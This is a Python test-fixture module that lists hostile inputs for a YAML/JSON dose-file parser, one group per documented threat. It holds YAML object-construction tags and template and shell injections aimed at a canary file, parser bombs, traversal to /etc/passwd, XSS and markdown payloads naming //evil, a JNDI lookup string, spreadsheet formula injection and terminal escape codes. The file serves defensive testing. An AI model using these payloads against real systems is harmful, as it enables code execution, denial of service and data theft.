"""What may stand in a file to break the program, mislead it, or steer a reader: a list for each threat of docs/security.md."""

from __future__ import annotations

from tests.unit.report.test_report_escape import PAYLOADS

# T1: tags that make a reader build objects. CANARY is replaced by the path of a file that must not come to be.
TAGS = (
    "!!python/object/apply:os.system ['touch CANARY']",
    "!!python/object/new:os.system ['touch CANARY']",
    "!!python/object/apply:subprocess.Popen [['touch', 'CANARY']]",
    "!!python/object/apply:subprocess.check_output [[touch, 'CANARY']]",
    "!!python/object:neurobalance_expert.errors.Span {file: x}",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/tuple [1, 2]",
    "!!python/bytes 'eA=='",
    "!!python/object/apply:builtins.eval [\"__import__('os').system('touch CANARY')\"]",
    "!!python/object/apply:builtins.open ['CANARY', w]",
    "!!map {a: 1}",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!binary eA==",
    "!!timestamp 2026-01-01",
    "!!float 1",
    "!!int '1'",
    "!!bool yes",
    "!!null x",
    "!local x",
    "!<tag:yaml.org,2002:python/object/apply:os.system> ['touch CANARY']",
    "!e!x y",
)

_LAUGHS = "\n".join(["a0: &a0 [x, x, x, x, x, x, x, x, x]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9))])

# T2: name -> (text, whether it may be read). Those that are read must be read as quickly as the others are refused.
BOMBS = {
    "billion laughs": (_LAUGHS, False),
    "merge keys": ("a: &a {x: 1}\nb: {<<: *a}\n", False),
    "recursive anchor": ("a: &a [*a]\n", False),
    "brackets": ("a: " + "[" * 100_000, False),
    "braces": ("{a: " * 50_000, False),
    "closed brackets": ("[" * 20_000 + "]" * 20_000, False),
    "dashes": ("- " * 20_000 + "x\n", False),
    "indentation": ("".join(" " * i + "a:\n" for i in range(2_000)), False),
    "documents": ("---\na: 1\n" * 100_000, False),
    "values": ("[" + "1," * 510_000 + "1]", False),
    "equal keys": ("{" + "a: 1, " * 100_000 + "}", False),
    "a large text": ("a: " + "x" * 6_000_000, False),
    "digits": ("a: " + "9" * 4_000_000, True),
    "a comment": ("#" * 4_900_000 + "\na: 1\n", True),
    "quotes": ('a: "' + "\\x41" * 1_000_000 + '"', True),
    "blanks": ("a:" + " " * 4_000_000 + "1\n", True),
    "line ends": ("\n" * 4_000_000, True),
    "tags": ("!!python/name:os.system x\n" * 50_000, False),
}  # fmt: skip
JSON_BOMBS = {
    "brackets": ("[" * 100_000, False),
    "objects": ('{"a":' * 100_000, False),
    "values": ("[" + "1," * 510_000 + "1]", False),
    "equal keys": ("{" + '"a": 1, ' * 50_000 + '"a": 1}', False),
    "digits": ('{"a": ' + "9" * 4_000_000 + "}", False),
    "exponent": ('{"a": 1e999999999}', False),
    "escapes": ('{"a": "' + "\\u0041" * 700_000 + '"}', True),
}

# T3 and T9: what stands as an amount. None: refused; a number: what is read. The same in YAML and JSON unless only one can say it.
AMOUNTS = (
    ("12", 12), ("12.50", 12.5), ("0.5", 0.5), ("+5", 5), ("012", 12), ("00.5", 0.5), ("5.", 5), (".5", 0.5), ("-0", 0),
    ("no", None), ("yes", None), ("on", None), ("off", None), ("y", None), ("true", None), ("false", None), ("0o17", None), ("0x1F", None),
    ("0b11", None), ("1_000", None), ("12:30", None), ("1:30:00", None), ("07:30", None), ("1e3", None), ("1E3", None),
    ("1e309", None), ("-1e309", None),
    (".nan", None), (".NaN", None), ("nan", None), (".inf", None), ("-.inf", None), ("Infinity", None), ("inf", None),
    ("2026-03-02", None), ("12,5", "shape"),
    ("'1,5'", None), ("1 000", None), ("1'000", None), ("1.000.5", None), ("12 g", None), ("'12'", None), ("=1+1", None),
    ("--5", None), ("-5", None),
    ("１２", None), ("١٢", None), ("½", None), ("1/2", None), ("9" * 400, None), ("0." + "0" * 39 + "1", None), ("1" * 19, None),
    ("1e-3", None),
    ("~1", None), ("<5", None), (">5", "shape"), ("∞", None), ("[12]", "shape"), ("{g: 12}", "shape"), ("!!float 12", "shape"),
)  # fmt: skip
JSON_AMOUNTS = (
    ("1e1", 10), ("-1", None), ("1e309", None), ("1e-309", None), ("NaN", None), ("Infinity", None), ("-Infinity", None),
    ("true", None), ('"12"', None),
    ("9" * 400, "shape"), ("01", "shape"), ("1.", "shape"), ("0x1F", "shape"), ("[1]", "shape"),
)  # fmt: skip

# T4 and T5: code where text or a value belongs.
CODE = (
    "__import__('os').system('touch CANARY')", "().__class__.__bases__[0].__subclasses__()", "{{ 7 * 7 }}", "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ lipsum.__globals__ }}", "{% import 'x' as y %}", "{{ self }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>", "%(x)s", "{0.__class__}",
    "{x!r:>{y}}",
    "$(touch CANARY)", "`touch CANARY`", "; touch CANARY", "| touch CANARY",
)  # fmt: skip
WORDING = tuple(text for text in CODE if text.startswith(("{{", "{%")))

# T6: names that make a careless pattern run for ever.
SLOW_NAMES = (
    "a" * 199 + "!",
    "a " * 99 + "!",
    "(a+)+$",
    "(x+x+)+y",
    "-" * 200,
    "a-" * 99,
    "1." * 99,
    "and " * 49,
    "/+" * 99,
    "é" * 199,
    "aA" * 99,
)

# T7: places that are not ours.
PATHS = (
    "../outside.yaml",
    "../../etc/passwd",
    "..\\outside.yaml",
    "/dev/zero",
    "/dev/null",
    "~/x.yaml",
    "CON",
    "x" * 5000,
    "",
    ".",
    "..",
)

# T11 and T12: text that acts where it is printed. The first part stands in tests/unit/report/test_report_escape.py.
TEXTS = (
    *PAYLOADS,
    "<iframe srcdoc='<script>alert(1)</script>'>", "<math><mtext></p><script>alert(1)</script>", "<details open ontoggle=alert(1)>",
    "<base href=//evil>",
    "<meta http-equiv=refresh content='0;url=//evil'>", "<link rel=stylesheet href=//evil>", "<form action=//evil><input>",
    "</textarea><script>",
    "</script><script>alert(1)//", "<style>@import '//evil'</style>", "&#x3c;script&#x3e;", "\\u003cscript\\u003e",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<b>>", "<b", "a=1 onload=alert(1)", "javascript:alert(1)", "data:text/html,<script>1</script>", "![x](//evil/p.png)",
    "[x](javascript:alert(1))",
    "[x]: //evil", "[^1]", "~~~\ncode", "    indented", "***", "a  \nb", "<https://evil.example>", "\x1b]0;title\x07",
    "\x1b[2J\x1b[H", "\x1b]52;c;ZXZpbA==\x07",
    "\u009d0;x\u009c", "\r\roverwritten", "=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "\t=1", "%0d%0aSet-Cookie: x",
    "${jndi:ldap://evil}",
)  # fmt: skip

# T10: one dose as its unit may be written; mg, or None where the unit is refused or unknown.
UNITS = (
    ("400", "ug", 0.4), ("400", "mcg", 0.4), ("400", "µg", 0.4), ("400", "μg", 0.4), ("400", "UG", None), ("400", " mg ", 400),
    ("0.4", "g", 400), ("400", "mg", 400),
    ("400", "Mg", None), ("400", "", None), ("400", "IU", None), ("400", "mg DFE", None), ("400", "ug DFE", None), ("400",
    "mgg", None), ("400", "kg", None),
    ("400", "lb", None), ("400", "oz", None), ("400", "gr", None), ("400", "ml", None), ("400", "mmol", None), ("400", "mg/kg", None),
    ("400", "mg/d", None),
    ("400", "%", None), ("400", "nmol/L", None), ("400", "м", None), ("400", "мg", None), ("400", "capsules", None), ("400", "1000", None),
)  # fmt: skip

# T15: Latin letters and what looks like them: Cyrillic, Greek, Armenian and others.
LOOKALIKES = {
    "a": "аɑα", "b": "Ьƅ", "c": "сϲ", "d": "ԁ", "e": "еҽ", "g": "ɡց", "h": "һհ", "i": "іıι", "j": "ј", "k": "κк", "l": "ӏǀ|",
    "m": "м", "n": "ոп", "o": "оοօ",
    "p": "рρ", "q": "ԛ", "r": "г", "s": "ѕ", "t": "τт", "u": "υս", "v": "ѵν", "w": "ԝѡ", "x": "хχ", "y": "уγ", "z": "ᴢ",
}  # fmt: skip
HIDDEN = ("\u200b", "\u200e", "\u202e", "\u2060", "\u00ad", "\ufeff", "\x00", "\x07", "\x1b", "\u115f")
